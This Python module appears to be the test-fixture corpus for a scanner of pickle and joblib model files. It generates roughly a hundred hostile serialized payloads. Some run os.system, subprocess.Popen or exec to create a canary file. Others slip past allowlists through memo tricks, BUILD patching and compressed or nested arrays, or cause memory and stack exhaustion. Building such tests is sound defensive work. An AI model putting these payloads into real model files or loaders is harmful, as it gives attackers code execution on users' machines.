"""Hostile pickles and joblib files, each made by code, with what must be said about it.

Every case takes the path of a canary file and gives bytes. Where `fires` is set, really loading the bytes (`pickle`
or `joblib`) makes that file: the cases are attacks, not pictures of attacks. The others harm in ways that leave
no file (exhaustion, memory errors, changes to allowed classes).
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import joblib
import numpy as np


@dataclass(frozen=True)
class Case:
    """One attack: `name` stands in a finding's name or reason; `loader` is what a victim would have used."""

    title: str
    make: Callable[[str], bytes]
    name: str
    fires: bool = True
    loader: str = "pickle"


class Call:
    """Pickles as a call of `function` with the arguments."""

    def __init__(self, function: Any, *arguments: Any, state: Any = None) -> None:
        self.parts = (function, arguments) if state is None else (function, arguments, state)

    def __reduce__(self) -> Any:
        return self.parts


def short(text: str) -> bytes:
    """SHORT_BINUNICODE or BINUNICODE of a text."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def find(module: str, name: str) -> bytes:
    """A STACK_GLOBAL, which any protocol's stream may hold."""
    return short(module) + short(name) + b"\x93"


def wrap(body: bytes, protocol: int = 4) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


def touch(path: str) -> str:
    """A shell command that makes the canary."""
    return f"touch '{path}'"


def write(path: str) -> str:
    """Python source that makes the canary."""
    return f"open({path!r}, 'w').close()"


def _system(protocol: int) -> Callable[[str], bytes]:
    def make(path: str) -> bytes:
        import os

        return pickle.dumps(Call(os.system, touch(path)), protocol)

    return make


def _call(module: str, name: str, *arguments: Callable[[str], Any]) -> Callable[[str], bytes]:
    """REDUCE of `module.name` with arguments made from the canary's path."""

    def make(path: str) -> bytes:
        values = pickle.dumps(tuple(argument(path) for argument in arguments), 2)[2:-1]
        return wrap(find(module, name) + values + b"R")

    return make


def _inst(path: str) -> bytes:
    return b"(S" + repr(touch(path)).encode() + b"\nios\nsystem\n."


def _obj(path: str) -> bytes:
    return b"(cos\nsystem\nS" + repr(touch(path)).encode() + b"\no."


def _newobj(path: str) -> bytes:
    return wrap(find("subprocess", "Popen") + short(touch(path)) + b"\x85\x81")


def _newobj_ex(path: str) -> bytes:
    arguments = short(touch(path)) + b"\x85" + b"}" + short("shell") + b"\x88s"
    return wrap(find("subprocess", "Popen") + arguments + b"\x92")


def _popen_call(path: str) -> bytes:
    return wrap(find("subprocess", "Popen") + b"(" + b"]" + short("/bin/sh") + b"a" + short("-c") + b"a"
                + short(touch(path)) + b"at" + b"R")  # fmt: skip


def _python2(module: str, name: str, argument: Callable[[str], str]) -> Callable[[str], bytes]:
    def make(path: str) -> bytes:
        return f"c{module}\n{name}\n(V{argument(path)}\ntR.".encode()

    return make


def _memo_confusion(path: str) -> bytes:
    """The memo entry of an honest global is overwritten with a hostile one before it is called."""
    honest = find("collections", "OrderedDict") + b"q\x05" + b"0"
    return wrap(honest + find("os", "system") + b"q\x05" + b"0" + b"h\x05" + short(touch(path)) + b"\x85R")


def _memo_name(path: str) -> bytes:
    """Module and name of a STACK_GLOBAL come out of the memo, long after they were put there."""
    return wrap(short("os") + b"q\x01" + short("system") + b"q\x02" + b"00" + b"h\x01h\x02\x93"
                + short(touch(path)) + b"\x85R")  # fmt: skip


def _split_name(path: str) -> bytes:
    """The argument tuple is built in pieces, with marks and pops between."""
    return wrap(find("posix", "system") + b"((lK\x01\x8501" + b"(" + short(touch(path)) + b"tR")


def _attrgetter(path: str) -> bytes:
    getter = find("operator", "attrgetter") + short("__globals__") + b"\x85R"
    builtins = find("operator", "itemgetter") + short("__builtins__") + b"\x85R"
    evaluate = find("operator", "itemgetter") + short("exec") + b"\x85R"
    function = find("shutil", "copy")
    return wrap(evaluate + builtins + getter + function + b"\x85R\x85R\x85R" + short(write(path)) + b"\x85R")


def _nested(path: str) -> bytes:
    return wrap(find("pickle", "loads") + pickle.dumps(_system(2)(path), 3)[2:-1] + b"\x85R")


def _dotted(path: str) -> bytes:
    return wrap(find("sklearn.utils.fixes", "np.lib.npyio.os.system") + short(touch(path)) + b"\x85R")


def _dotted_allowed(path: str) -> bytes:
    """A dotted name below an allowed function reaches the globals of its module."""
    return wrap(find("copyreg", "_reconstructor.__globals__.__class__.__base__") + b")R")


def _build_patch(path: str) -> bytes:
    """BUILD on a class instead of an instance changes the class for everybody."""
    state = b"}" + short("predict") + find("os", "system") + b"s"
    return wrap(find("sklearn.linear_model._logistic", "LogisticRegression") + b"N" + state + b"\x86b")


def _build_function(path: str) -> bytes:
    """BUILD replaces the code of an allowed function's defaults."""
    return wrap(find("copyreg", "_reconstructor") + b"}" + short("__wrapped__") + b"K\x01sb")


def _setstate(path: str) -> bytes:
    """The first BUILD plants a __setstate__ in an allowed instance, the second one calls it."""
    instance = find("sklearn.preprocessing._data", "StandardScaler") + b")\x81"
    plant = b"}" + short("__setstate__") + find("os", "system") + b"sb"
    return wrap(instance + plant + short(touch(path)) + b"b")


def _setstate_allowed(path: str) -> bytes:
    """The same, with nothing but allowed names: a second BUILD must not be reached at all."""
    instance = find("sklearn.preprocessing._data", "StandardScaler") + b")\x81"
    plant = b"}" + short("__setstate__") + find("numpy", "log1p") + b"sb"
    return wrap(instance + plant + b"K\x01b")


def _booster(path: str) -> bytes:
    keywords = b"}" + short("model_file") + short(path) + b"s"
    return wrap(find("lightgbm.basic", "Booster") + b")" + keywords + b"\x92")


def _booster_call(path: str) -> bytes:
    return wrap(find("lightgbm.basic", "Booster") + b"NN" + short(path) + b"\x87R")


def _extension(path: str) -> bytes:
    return wrap(b"\x82\x01" + short(touch(path)) + b"\x85R")


def _persistent(path: str) -> bytes:
    return b"Pos.system\n."


def _binary_persistent(path: str) -> bytes:
    return wrap(short(path) + b"Q")


def _pop(path: str) -> bytes:
    """The payload's result is thrown away; what remains is an honest model."""
    payload = find("os", "system") + short(touch(path)) + b"\x85R0"
    return wrap(payload + pickle.dumps({"model": 1}, 2)[2:-1])


def _broken_after(path: str) -> bytes:
    """The payload runs, then the stream breaks: a scanner that gives up on errors sees nothing."""
    return b"\x80\x04" + find("os", "system") + short(touch(path)) + b"\x85R" + b"\xff\xff\xff"


def _unused_import(path: str) -> bytes:
    """Importing alone runs a module's code."""
    return wrap(find("antigravity_of_the_attacker", "anything") + b"0" + b"K\x01")


def _concatenated(path: str) -> bytes:
    return pickle.dumps({"model": 1}) + _system(4)(path)


def _trailing(path: str) -> bytes:
    return pickle.dumps({"model": 1}) + b"\0" * 50


def _function_transformer(path: str) -> bytes:
    import os

    from sklearn.preprocessing import FunctionTransformer

    return pickle.dumps(FunctionTransformer(os.system))


def _defaultdict(path: str) -> bytes:
    """A factory that runs later, when the model looks up a missing key."""
    return wrap(find("collections", "defaultdict") + find("os", "getcwd") + b"\x85R")


def _ufunc(path: str) -> bytes:
    """NumPy's reconstructor of ufuncs imports whatever it is told."""
    target = find("numpy.core", "_ufunc_reconstruct") + short("os") + short("system") + b"\x86R"
    return wrap(target + short(touch(path)) + b"\x85R")


def _partial(path: str) -> bytes:
    function = find("functools", "partial") + find("numpy", "log1p") + b"\x85R"
    state = find("os", "system") + short(touch(path)) + b"\x85}N" + b"t"
    return wrap(function + b"(" + state + b"b" + b")R")


def _partial_direct(path: str) -> bytes:
    function = find("functools", "partial") + find("os", "system") + short(touch(path)) + b"\x86R"
    return wrap(function + b")R")


def _joblib_dump(value: Any, **options: Any) -> bytes:
    target = io.BytesIO()
    joblib.dump(value, target, **options)
    return target.getvalue()


def _after_array(path: str) -> bytes:
    """The payload stands behind a joblib array, where readers that stop at the array's bytes never look."""
    import os

    return _joblib_dump([np.arange(64.0), Call(os.system, touch(path))])


def _object_array(path: str) -> bytes:
    """Inside an array of objects, which joblib writes (and once read) as a pickle of its own."""
    import os

    return _joblib_dump(np.array([Call(os.system, touch(path)), None], dtype=object))


def _nested_object_array(path: str) -> bytes:
    import os

    inner = np.array([Call(os.system, touch(path))], dtype=object)
    outer = np.empty(1, dtype=object)
    outer[0] = {"x": inner}
    return _joblib_dump({"a": np.arange(5), "b": outer})


def _compressed(method: Any) -> Callable[[str], bytes]:
    def make(path: str) -> bytes:
        import os

        return _joblib_dump({"m": np.arange(9.0), "x": Call(os.system, touch(path))}, compress=method)

    return make


def _array_wrapper_old(path: str) -> bytes:
    """joblib 0.9's wrapper names another file to load, pickled arrays included."""
    state = b"}" + short("filename") + short(path) + b"s" + short("allow_mmap") + b"\x89s"
    state += short("subclass") + find("numpy", "ndarray") + b"s"
    return wrap(find("joblib.numpy_pickle_compat", "NDArrayWrapper") + b")\x81" + state + b"b")


def _zfile(path: str) -> bytes:
    payload = zlib.compress(_system(2)(path))
    return b"ZF" + hex(len(_system(2)(path))).encode().ljust(19) + payload


def _dtype_state(flags: int, kind: str = "f8", size: int = -1) -> bytes:
    made = find("numpy", "dtype") + short(kind) + b"\x89\x88\x87R"
    state = b"(K\x03" + short("<") + b"NNN" + b"J" + struct.pack("<i", size) + b"J\xff\xff\xff\xff"
    return made + state + b"K" + bytes([flags]) + b"tb"


def _array(dtype: bytes, shape: bytes, data: bytes) -> bytes:
    made = find("numpy.core.multiarray", "_reconstruct") + find("numpy", "ndarray") + b"K\x00\x85C\x01b\x87R"
    return made + b"(K\x01" + shape + dtype + b"\x89" + data + b"tb"


def _dtype_confusion(path: str) -> bytes:
    """An object dtype that denies listing its objects: raw bytes become pointers."""
    pointers = b"C\x08" + struct.pack("<Q", 0x4141414141414141)
    return wrap(_array(_dtype_state(1, "O8"), b"K\x01\x85", pointers))


def _dtype_confusion_late(path: str) -> bytes:
    """The dtype changes into one of objects after the array took its bytes."""
    dtype = find("numpy", "dtype") + short("V8") + b"\x89\x88\x87R" + b"q\x09"
    array = _array(dtype, b"K\x01\x85", b"C\x08" + b"A" * 8)
    state = b"(K\x03" + short("|") + b"NNN" + b"K\x08K\x01K\x3ftb"
    return wrap(array + b"h\x09" + state + b"\x86")


def _structured_outside(path: str) -> bytes:
    """A field that lies behind the end of its record reads other memory."""
    inner = find("numpy", "dtype") + short("f8") + b"\x89\x88\x87R"
    made = find("numpy", "dtype") + short("V8") + b"\x89\x88\x87R"
    fields = b"}" + short("a") + inner + b"J" + struct.pack("<i", 1 << 20) + b"\x86s"
    return wrap(made + b"(K\x03" + short("|") + b"N" + short("a") + b"\x85" + fields + b"K\x08K\x01K\x10tb")


def _short_array(path: str) -> bytes:
    return wrap(_array(_dtype_state(0), b"M\x00\x10\x85", b"C\x08" + b"A" * 8))


def _huge_array(path: str) -> bytes:
    made = find("numpy.core.multiarray", "_reconstruct") + find("numpy", "ndarray")
    return wrap(made + b"\x8a\x06" + (1 << 44).to_bytes(6, "little") + b"\x85C\x01b\x87R")


def _inline_too_short(path: str) -> bytes:
    honest = _joblib_dump(np.arange(1000.0))
    return honest.replace(b"M\xe8\x03", b"M\xff\x7f", 1)


def _lying_length(path: str) -> bytes:
    return b"\x80\x04\x8e" + struct.pack("<Q", 1 << 62) + b"abc."


def _lying_frame(path: str) -> bytes:
    return b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b"N."


def _memo_bomb(path: str) -> bytes:
    return wrap(b"Nr" + struct.pack("<I", 0xFFFFFFF0))


def _marks(path: str) -> bytes:
    return wrap(b"(" * 1_000_000 + b"N")


def _deep_tuple(path: str) -> bytes:
    """A key so deeply nested that hashing it overflows the interpreter's stack."""
    return wrap(b"}" + b")" + b"\x85" * 500_000 + b"Ns")


def _second_protocol(path: str) -> bytes:
    """Declaring an old protocol in the middle changes how names are read."""
    return b"\x80\x04" + b"\x80\x00" + b"c__builtin__\neval\n(V" + write(path).encode() + b"\ntR."


def _bomb(path: str) -> bytes:
    return zlib.compress(wrap(b"B" + struct.pack("<I", 200 << 20) + b"\0" * (200 << 20)), 9)


def _getattr_chain(path: str) -> bytes:
    system = find("builtins", "getattr") + find("numpy", "ctypeslib") + short("os") + b"\x86R"
    return wrap(system + b"0K\x01")


def _main_class(path: str) -> bytes:
    return wrap(find("__main__", "Model") + b")\x81}b")


def _pyx_other_class(path: str) -> bytes:
    """Cython's reconstructor is handed a class that it does not make."""
    call = find("sklearn._loss._loss", "__pyx_unpickle_CyHalfMultinomialLoss") + find("subprocess", "Popen")
    return wrap(call + b"K\x01N\x87R")


def _reconstructor_other(path: str) -> bytes:
    return wrap(find("copyreg", "_reconstructor") + find("subprocess", "Popen") + find("builtins", "object")
                + b"N\x87R")  # fmt: skip


def _slots(path: str) -> bytes:
    """State for slots is set attribute by attribute, through properties and __setattr__."""
    state = b"N}" + short("params") + b"K\x01s\x86"
    return wrap(find("lightgbm.basic", "Booster") + b")\x81" + state + b"b")


def _distribution(path: str) -> bytes:
    """scipy's distributions execute a text of their own state when they are unpickled."""
    state = b"}" + short("_parse_arg_template") + short(write(path)) + b"s"
    return wrap(find("scipy.stats._distn_infrastructure", "rv_sample") + b")\x81" + state + b"b")


def _items_on_instance(path: str) -> bytes:
    return wrap(find("sklearn.linear_model._logistic", "LogisticRegression") + b")\x81" + b"K\x01a")


def _alias(path: str) -> bytes:
    """Text GLOBAL with the protocol of Python 2: `commands` became `subprocess`."""
    return f"ccommands\ngetoutput\n(V{touch(path)}\ntR.".encode()


def _evil_estimator(path: str) -> bytes:
    """An honest estimator whose attribute is a call."""
    import os

    from sklearn.linear_model import LogisticRegression

    model = LogisticRegression()
    model.extra = Call(os.system, touch(path))
    return pickle.dumps(model)


CASES: tuple[Case, ...] = (
    *(Case(f"os.system, protocol {p}", _system(p), "posix.system") for p in range(6)),
    Case("INST", _inst, "INST"),
    Case("OBJ", _obj, "OBJ"),
    Case("NEWOBJ of Popen", _newobj, "subprocess.Popen", fires=False),
    Case("NEWOBJ_EX of Popen", _newobj_ex, "subprocess.Popen", fires=False),
    Case("REDUCE of Popen", _popen_call, "subprocess.Popen"),
    Case("builtins.exec", _call("builtins", "exec", write), "builtins.exec"),
    Case("builtins.eval", _call("builtins", "eval", write), "builtins.eval"),
    Case("builtins.__import__", _call("builtins", "__import__", lambda _p: "antigravity"), "__import__", fires=False),
    Case("builtins.open", _call("builtins", "open", lambda p: p, lambda _p: "w"), "builtins.open"),
    Case("builtins.getattr", _getattr_chain, "builtins.getattr", fires=False),
    Case("Python 2 __builtin__.eval", _python2("__builtin__", "eval", write), "builtins.eval"),
    Case("Python 2 commands.getoutput", _alias, "subprocess.getoutput"),
    Case("Python 2 execfile", _python2("__builtin__", "execfile", lambda p: p), "execfile", fires=False),
    Case("memo entry overwritten", _memo_confusion, "os.system"),
    Case("name out of the memo", _memo_name, "os.system"),
    Case("arguments in pieces", _split_name, "posix.system"),
    Case("pkgutil.resolve_name", _call("pkgutil", "resolve_name", lambda _p: "os:system"), "pkgutil", fires=False),
    Case("operator.attrgetter chain", _attrgetter, "operator.attrgetter"),
    Case("operator.methodcaller", _call("operator", "methodcaller", lambda _p: "system"), "operator", fires=False),
    Case("timeit.timeit", _call("timeit", "timeit", write, lambda _p: "pass", lambda _p: 0), "timeit", fires=False),
    Case("timeit.main", _call("timeit", "repeat", write), "timeit.repeat", fires=False),
    Case("subinterpreter", _call("_xxsubinterpreters", "run_string", lambda _p: 0, write), "subinterp", fires=False),
    Case("subinterpreter, new", _call("_interpreters", "run_string", lambda _p: 0, write), "_interp", fires=False),
    Case("runpy", _call("runpy", "run_path", lambda p: p), "runpy.run_path", fires=False),
    Case("code.interact", _call("code", "InteractiveInterpreter"), "code.", fires=False),
    Case("pdb.run", _call("pdb", "run", write), "pdb.run", fires=False),
    Case("cProfile.run", _call("cProfile", "run", write), "cProfile.run"),
    Case("types.CodeType", _call("types", "CodeType"), "types.CodeType", fires=False),
    Case("marshal.loads", _call("marshal", "loads", lambda _p: b"i\0\0\0\0"), "marshal.loads", fires=False),
    Case("ctypes.CDLL", _call("ctypes", "CDLL", lambda p: p), "ctypes.CDLL", fires=False),
    Case("importlib", _call("importlib", "import_module", lambda _p: "antigravity"), "importlib", fires=False),
    Case("nested pickle.loads", _nested, "pickle.loads"),
    Case("trampoline joblib.load", _call("joblib.numpy_pickle", "load", lambda p: p), "joblib", fires=False),
    Case("trampoline numpy.load", _call("numpy", "load", lambda p: p), "numpy.load", fires=False),
    Case("trampoline pandas.read_pickle", _call("pandas.io.pickle", "read_pickle", lambda p: p), "read_pickle",
         fires=False),
    Case("numpy's f2py", _call("numpy.f2py.capi_maps", "getinit", write), "numpy.f2py", fires=False),
    Case("numpy's f2py eval", _call("numpy.f2py.crackfortran", "myeval", write), "numpy.f2py"),
    Case("numpy test runner", _call("numpy.testing._private.utils", "runstring", write, lambda _p: {}), "runstring"),
    Case("exec_command", _call("numpy.distutils.exec_command", "exec_command", touch), "exec_command", fires=False),
    Case("load_files", _call("sklearn.datasets._base", "load_files", lambda p: p), "load_files", fires=False),
    Case("torch trampoline", _call("torch.serialization", "load", lambda p: p), "torch", fires=False),
    Case("webbrowser", _call("webbrowser", "open", lambda p: p), "webbrowser", fires=False),
    Case("shutil.rmtree", _call("shutil", "rmtree", lambda p: p + ".none"), "shutil.rmtree", fires=False),
    Case("asyncio subprocess", _call("asyncio.unix_events", "_UnixSubprocessTransport"), "asyncio", fires=False),
    Case("pty.spawn", _call("pty", "spawn", lambda _p: "true"), "pty.spawn", fires=False),
    Case("logging.config", _call("logging.config", "listen", lambda _p: 0), "logging.config", fires=False),
    Case("dotted global", _dotted, "np.lib.npyio.os.system", fires=False),
    Case("dotted global below an allowed one", _dotted_allowed, "_reconstructor.__globals__", fires=False),
    Case("BUILD patches an allowed class", _build_patch, "LogisticRegression", fires=False),
    Case("BUILD patches an allowed function", _build_function, "_reconstructor", fires=False),
    Case("planted __setstate__", _setstate, "os.system"),
    Case("planted __setstate__, allowed names only", _setstate_allowed, "__setstate__", fires=False),
    Case("Booster(model_file=...)", _booster, "lightgbm.basic.Booster", fires=False),
    Case("Booster called", _booster_call, "lightgbm.basic.Booster", fires=False),
    Case("EXT1", _extension, "EXT1", fires=False),
    Case("PERSID", _persistent, "PERSID", fires=False),
    Case("BINPERSID", _binary_persistent, "BINPERSID", fires=False),
    Case("payload, then POP", _pop, "os.system"),
    Case("payload, then a broken stream", _broken_after, "os.system"),
    Case("import without use", _unused_import, "antigravity_of_the_attacker", fires=False),
    Case("concatenated pickles", _concatenated, "posix.system", fires=False),
    Case("trailing bytes", _trailing, "trailing data", fires=False),
    Case("FunctionTransformer(os.system)", _function_transformer, "posix.system", fires=False),
    Case("estimator with a call in it", _evil_estimator, "posix.system"),
    Case("defaultdict with a factory", _defaultdict, "os.getcwd", fires=False),
    Case("numpy's ufunc reconstructor", _ufunc, "os.system"),
    Case("partial, state replaced", _partial, "os.system"),
    Case("partial of os.system", _partial_direct, "os.system"),
    Case("payload after an inline array", _after_array, "posix.system", loader="joblib"),
    Case("payload in an object array", _object_array, "posix.system", loader="joblib"),
    Case("payload in a nested object array", _nested_object_array, "posix.system", loader="joblib"),
    *(Case(f"compressed payload, {m}", _compressed((m, 3)), "posix.system", loader="joblib")
      for m in ("zlib", "gzip", "bz2", "xz", "lzma")),
    Case("gzip by hand", lambda p: gzip.compress(_system(4)(p)), "posix.system", loader="joblib"),
    Case("bz2 by hand", lambda p: bz2.compress(_system(0)(p)), "posix.system", loader="joblib"),
    Case("xz by hand", lambda p: lzma.compress(_system(2)(p)), "posix.system", loader="joblib"),
    Case("gzip and more", lambda p: gzip.compress(pickle.dumps(1)) + _system(4)(p), "trailing", fires=False),
    Case("joblib 0.9 NDArrayWrapper", _array_wrapper_old, "NDArrayWrapper", fires=False),
    Case("ZFILE container", _zfile, "ZFILE", fires=False),
    Case("object dtype in disguise", _dtype_confusion, "numpy.dtype", fires=False),
    Case("dtype changed under an array", _dtype_confusion_late, "numpy.dtype", fires=False),
    Case("field outside of its record", _structured_outside, "numpy.dtype", fires=False),
    Case("array shorter than its shape", _short_array, "numpy.ndarray", fires=False),
    Case("huge empty array", _huge_array, "_reconstruct", fires=False),
    Case("inline array past the end", _inline_too_short, "NumpyArrayWrapper", fires=False),
    Case("lying length", _lying_length, "broken pickle", fires=False),
    Case("lying frame", _lying_frame, "broken pickle", fires=False),
    Case("memo bomb", _memo_bomb, "memo bomb", fires=False),
    Case("flood of marks", _marks, "deep nesting", fires=False),
    Case("deep tuple", _deep_tuple, "deep nesting", fires=False),
    Case("second PROTO", _second_protocol, "protocol is declared again"),
    Case("decompression bomb", _bomb, "decompression bomb", fires=False),
    Case("class of __main__", _main_class, "__main__.Model", fires=False),
    Case("foreign class for Cython's reconstructor", _pyx_other_class, "subprocess.Popen", fires=False),
    Case("foreign class for copyreg", _reconstructor_other, "subprocess.Popen", fires=False),
    Case("state for slots", _slots, "lightgbm.basic.Booster", fires=False),
    Case("scipy distribution", _distribution, "scipy.stats", fires=False),
    Case("items on an instance", _items_on_instance, "LogisticRegression", fires=False),
    Case("a class as the model", lambda _p: wrap(find("numpy", "matrix") * 0 + find("lightgbm.basic", "Booster")),
         "lightgbm.basic.Booster", fires=False),
    Case("out-of-band buffer", lambda _p: b"\x80\x05\x97.", "NEXT_BUFFER", fires=False),
    Case("stack underflow", lambda _p: wrap(b"R"), "broken pickle", fires=False),
    Case("nothing after PROTO", lambda _p: b"\x80\x04", "broken pickle", fires=False),
    Case("truncated", lambda _p: pickle.dumps({"a": list(range(50))})[:-9], "broken pickle", fires=False),
    Case("unknown protocol", lambda _p: b"\x80\x06N.", "broken pickle", fires=False),
)  # fmt: skip
